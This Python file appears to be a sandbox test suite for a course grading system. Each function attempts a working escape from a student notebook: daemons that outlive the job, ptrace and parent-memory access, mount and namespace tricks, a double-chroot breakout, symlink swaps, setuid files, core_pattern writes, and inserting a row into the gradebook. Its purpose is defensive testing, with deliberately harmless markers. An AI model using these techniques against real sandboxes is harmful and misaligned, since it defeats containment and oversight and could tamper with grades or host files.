# ruff: noqa: F405, F403, B023, RUF100
# ps1/functions of mallory-escapes: survive the job, leave the sandbox, change files outside and the grade.
# What succeeds only leaves harmless, findable traces. submissions.py also edits this notebook's metadata.
from common import *

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWNET = 0x20000, 0x10000000, 0x20000000, 0x40000000


# %% survive
@attempt("daemon that outlives the job")
def _() -> str:
    child = os.fork()
    if not child:
        os.setsid()
        if os.fork():
            os._exit(0)
        name_process()
        for signal_number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(signal_number, signal.SIG_IGN)
        os.closerange(0, 1024)
        time.sleep(150)
        os._exit(0)
    os.waitpid(child, 0)
    return "started; it would live for 150 s"


@attempt("program in a session of its own")
def _() -> str:
    code = "import time; time.sleep(150)"
    done = subprocess.Popen(
        [sys.executable, "-c", code, KNOWN["marker"]],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    return f"started as process {done.pid}; it would live for 150 s"


# %% other processes (0x4206 is PTRACE_SEIZE: it does not stop its victim)
@attempt("ptrace process 1")
def _() -> str:
    return in_child(lambda: f"got attached {call('ptrace', 0x4206, 1, 0, 0)}")


@attempt("ptrace the parent")
def _() -> str:
    parent = os.getppid()
    return in_child(lambda: f"got attached {call('ptrace', 0x4206, parent, 0, 0)}")


@attempt("read the memory of the parent")
def _() -> str:
    with open(f"/proc/{os.getppid()}/mem", "rb"):
        return "got it open"


@attempt("signal the demo")
def _() -> str:
    os.kill(KNOWN["pid"], 0)
    seen = Path(f"/proc/{KNOWN['pid']}/cmdline").read_bytes()
    return "got through" if b"demo.py" in seen else "a process of that number exists here, but it is another one"


# %% mounts and namespaces, each in a child of its own
@attempt("mount a tmpfs")
def _() -> str:
    def mount() -> str:
        call("mount", b"tmpfs", b"/mnt", b"tmpfs", 0, None)
        return f"got it mounted, undone {libc.umount2(b'/mnt', 2)}"

    return in_child(mount)


@attempt("remount the root writable")
def _() -> str:
    if not boxed():
        return "failed: not tried outside a sandbox"
    return in_child(lambda: f"got {call('mount', None, b'/', None, 0x20 | 0x1000, None)}")


@attempt("nested user namespace")
def _() -> str:
    return in_child(lambda: f"got {call('unshare', CLONE_NEWUSER | CLONE_NEWNS)}")


@attempt("nested user namespace, all at once")
def _() -> str:
    return in_child(lambda: f"got {call('unshare', CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWNS)}")


for _kind in ("user", "mnt", "pid", "net"):

    @attempt(f"enter the {_kind} namespace of process 1")
    def _() -> str:
        def enter() -> str:
            descriptor = os.open(f"/proc/1/ns/{_kind}", os.O_RDONLY)
            return f"got {call('setns', descriptor, 0)}"

        return in_child(enter)


@attempt("double chroot")
def _() -> str:
    def climb() -> str:
        os.makedirs("jail", exist_ok=True)
        out = os.open(".", os.O_RDONLY)
        os.chroot("jail")
        os.fchdir(out)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return loot(Path(KNOWN["read"]["home file"]).read_bytes())

    return in_child(climb)


# %% files outside
@attempt("write into the course")
def _() -> str:
    path = Path(KNOWN["course"], f"{KNOWN['marker']}-was-here")
    path.write_text("written from a student's notebook\n")
    return "got it written"


@attempt("add a row to the gradebook")
def _() -> str:
    import sqlite3

    with contextlib.closing(sqlite3.connect(f"file:{KNOWN['gradebook']}?mode=rw", uri=True)) as database:
        database.execute("insert into student (id) values (?)", (KNOWN["marker"],))
        database.commit()
    return "got it written"


@attempt("symlink in place of the notebook")
def _() -> str:
    made = []
    for name in ("functions.ipynb", "text.ipynb", "functions.html", "helpers.py"):
        if os.path.lexists(name):
            os.rename(name, f"{name}.was")
        os.symlink(KNOWN["target"], name)
        made.append(name)
    return f"made {len(made)}; whoever writes through them writes elsewhere"


@attempt("write through the symlink")
def _() -> str:
    with open("functions.html", "a") as file:
        file.write("written through a symlink\n")
    return "got it written" if os.path.exists(KNOWN["target"]) else "failed: it leads nowhere"


@attempt("set-uid files")
def _() -> str:
    made = []
    for place in dict.fromkeys((os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"))):
        path = Path(place, f"{KNOWN['marker']}-setuid")
        with contextlib.suppress(OSError):
            path.write_text("#!/bin/true\n")
            path.chmod(0o4755)
            made.append(place)
    return f"made {len(made)}; is one of them left outside?"


@attempt("core_pattern")
def _() -> str:
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "got it open for writing"


@attempt("device node of the disk")
def _() -> str:
    os.mknod("disk", 0o060600, os.makedev(8, 0))
    os.unlink("disk")
    return "got it made"


@attempt("write into site-packages")
def _() -> str:
    import numpy

    path = Path(numpy.__file__).parents[1] / f"{KNOWN['marker']}.pth"
    path.write_text("# harmless\n")
    path.unlink()
    return "got it written"
